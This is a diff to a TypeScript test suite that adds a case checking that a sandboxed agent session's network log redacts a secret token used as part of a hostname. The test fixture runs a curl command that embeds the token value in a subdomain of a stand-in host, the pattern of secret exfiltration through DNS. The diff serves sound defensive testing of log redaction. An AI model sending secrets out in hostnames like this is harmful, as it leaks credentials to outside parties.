@@ -3,7 +3,7 @@ import type { AddressInfo } from 'node:net';
 import { appendNetworkEvents } from '../../activities/network-events.ts';
 import { ensureSandbox } from '../../activities/session-sandbox.ts';
 import type { Sandboxes } from '../../sandbox/client/sandboxes.ts';
-import { projectLog, readLog } from '../../sessions/index.ts';
+import { createSessions, createVault, projectLog, readLog } from '../../sessions/index.ts';
 import { TestSandboxes } from '../sandbox/helpers/sandboxes.ts';
 import { type Bench, message, openBench } from './support.ts';
 
@@ -71,5 +71,21 @@ describe("what a session's sandbox asked the network for", () => {
     const shown = projectLog(await readLog(bench.store, session));
     expect(JSON.stringify(shown)).not.toMatch(/localhost|network/);
     expect(shown).toHaveLength(1);
+  });
+
+  it('tells of a host that is made of a secret without its value', async () => {
+    const vault = createVault(new Uint8Array(32));
+    const sessions = createSessions({ store: bench.store, vault });
+    const tools = [{ type: 'bash_20241022', name: 'bash' }];
+    const agent = await sessions.agents.create({ name: 'a', model: 'script', tools });
+    const secrets = { API_TOKEN: 'Tok3nvalue99' };
+    const { id: session } = await sessions.create({ agent: agent.id, secrets });
+    const deps = { ...bench.deps, vault };
+    const id = await ensureSandbox(deps, session);
+    await sandboxes.text(client, id, 'curl -s http://tok3nvalue99.example.invalid/');
+    await appendNetworkEvents(deps, session);
+    const log = JSON.stringify(await readLog(bench.store, session));
+    expect(log).toContain('[secret:API_TOKEN].example.invalid');
+    expect(log).not.toMatch(/tok3nvalue99/i);
   });
 });
